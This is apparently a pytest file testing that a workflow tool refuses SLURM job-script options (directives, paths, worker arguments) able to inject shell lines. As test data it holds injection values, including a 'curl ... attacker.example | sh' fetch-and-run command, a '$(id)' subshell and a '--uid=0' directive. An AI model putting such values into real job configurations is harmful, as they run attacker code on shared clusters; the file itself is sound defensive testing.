"""Job-script injection: a ``cluster.options`` value that would add or break a line of the batch script is refused.

dask-jobqueue writes ``job_name``, ``queue``, ``account``, ``walltime``,
``memory``, ``log_directory`` and every ``job_extra_directives`` item into
``#SBATCH`` lines, each ``job_script_prologue`` item as a shell line, and
``python``, ``local_directory`` and ``worker_extra_args`` unquoted into the
worker's shell command. A newline in any of them is a new line of shell
(``curl ... | sh``); a space in a path splits it. Each bad value here goes
through the real CLI (``python -m surrogate_al.cli run``): exit 2, one line
naming the field, no store. A good value goes through the real
``SLURMCluster`` (its own ``job_script()``; no SLURM needed: a stand-in
``sbatch`` on PATH that is never called) and gives the directive on one line.
"""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest

from surrogate_al.config import load_workflow
from surrogate_al.dispatch.clusters import make_jobqueue_cluster

from .helpers import batch_workflow

CURL = "curl -s http://attacker.example/x | sh"

# (the field the message must name, cluster.options given as TOML lines)
BAD: dict[str, tuple[str, str]] = {
    "directive_newline": (
        "cluster.options.job_extra_directives[1]",
        f'job_extra_directives = ["--qos=normal", "--comment=x\\n{CURL}"]',
    ),
    "directive_carriage_return": ("cluster.options.job_extra_directives[0]", 'job_extra_directives = ["--qos=a\\rb"]'),
    "log_directory_space": ("cluster.options.log_directory", 'log_directory = "/tmp/my logs"'),
    "log_directory_newline": ("cluster.options.log_directory", f'log_directory = "/tmp/logs\\n{CURL}"'),
    "prologue_newline": ("cluster.options.job_script_prologue[0]", f'job_script_prologue = ["module load x\\n{CURL}"]'),
    "worker_args_shell": ("cluster.options.worker_extra_args[1]", f'worker_extra_args = ["--lifetime", "1h; {CURL}"]'),
    "local_directory_space": ("cluster.options.local_directory", 'local_directory = "/scratch/a b"'),
    "local_directory_subshell": ("cluster.options.local_directory", 'local_directory = "/tmp/$(id)"'),
    "python_shell": ("cluster.options.python", f'python = "/usr/bin/python3; {CURL}"'),
    "queue_newline": ("cluster.options.queue", 'queue = "debug\\n#SBATCH --uid=0"'),
    "account_space": ("cluster.options.account", 'account = "proj --uid=0"'),
    "walltime_newline": ("cluster.options.walltime", 'walltime = "01:00:00\\n"'),
    "job_name_newline": ("cluster.options.job_name", f'job_name = "sal\\n{CURL}"'),
    "memory_newline": ("cluster.options.memory", f'memory = "1GB\\n{CURL}"'),
    "skip_newline": ("cluster.options.job_directives_skip[0]", 'job_directives_skip = ["--mem\\n"]'),
    "nested_newline": ("cluster.options.scheduler_options.interface", 'scheduler_options = { interface = "lo\\nx" }'),
}


def _workflow(directory: Path, options: str, name: str = "inject") -> Path:
    return batch_workflow(directory, name, "slurm", cluster_lines="insecure = true", option_lines=options)


def _assert_refused(code: int, err: str, field: str, directory: Path) -> None:
    lines = err.strip().splitlines()
    assert code == 2, (code, err[-2000:])
    assert len(lines) == 1 and "Traceback" not in err, err[-2000:]
    assert f"{field}:" in lines[0], lines[0]
    assert not list(directory.glob("*.h5"))


@pytest.mark.parametrize("case", sorted(BAD))
def test_a_job_script_value_that_would_break_a_line_exits_2_naming_the_field(
    case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The CLI's own entry point, in this process (the next test runs it as its own process)."""
    from surrogate_al.cli import main

    field, options = BAD[case]
    workflow = _workflow(tmp_path, options)
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SystemExit) as info:
        main(["run", str(workflow), "--no-progress"])
    _assert_refused(int(info.value.code or 0), capsys.readouterr().err, field, tmp_path)


def test_a_shell_line_in_a_directive_is_refused_by_the_cli_process(tmp_path: Path) -> None:
    field, options = BAD["directive_newline"]
    workflow = _workflow(tmp_path, options)
    proc = subprocess.run(
        [sys.executable, "-m", "surrogate_al.cli", "run", str(workflow), "--no-progress"],
        capture_output=True, text=True, cwd=tmp_path, timeout=120,
    )
    _assert_refused(proc.returncode, proc.stderr, field, tmp_path)
    assert "control character" in proc.stderr


@pytest.fixture
def fake_sbatch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An ``sbatch`` on PATH that records a call and fails: only its presence is checked, nothing is submitted."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    sbatch = bin_dir / "sbatch"
    sbatch.write_text(f"#!/bin/sh\ntouch {tmp_path / 'SBATCH_CALLED'}\nexit 1\n")
    sbatch.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}")
    return sbatch


def _job_script(workflow: Path) -> str:
    spec = load_workflow(workflow)
    cluster: Any = make_jobqueue_cluster(spec.cluster, spec.campaign.name, None)
    try:
        return str(cluster.job_script())
    finally:
        cluster.close()


def test_good_directives_are_one_line_each_in_the_real_job_script(tmp_path: Path, fake_sbatch: Path) -> None:
    logs = tmp_path / "slurm_logs"
    options = textwrap.dedent(
        f"""\
        job_extra_directives = ["--qos=normal", "--comment=two words"]
        job_script_prologue = ["export OMP_NUM_THREADS=1", "module load gcc/12"]
        log_directory = "{logs}"
        local_directory = "$TMPDIR"
        walltime = "00:30:00"
        queue = "debug"
        """
    )
    script = _job_script(_workflow(tmp_path, options, name="good"))
    lines = script.splitlines()
    for line in ("#SBATCH --qos=normal", "#SBATCH --comment=two words", "#SBATCH -p debug", "#SBATCH -t 00:30:00",
                 f"#SBATCH -e {logs}/sal-good-%J.err", "export OMP_NUM_THREADS=1", "module load gcc/12"):
        assert line in lines, (line, script)
    worker = [line for line in lines if "distributed.cli.dask_worker" in line]
    assert len(worker) == 1 and "--local-directory $TMPDIR" in worker[0], script
    assert not (tmp_path / "SBATCH_CALLED").exists()
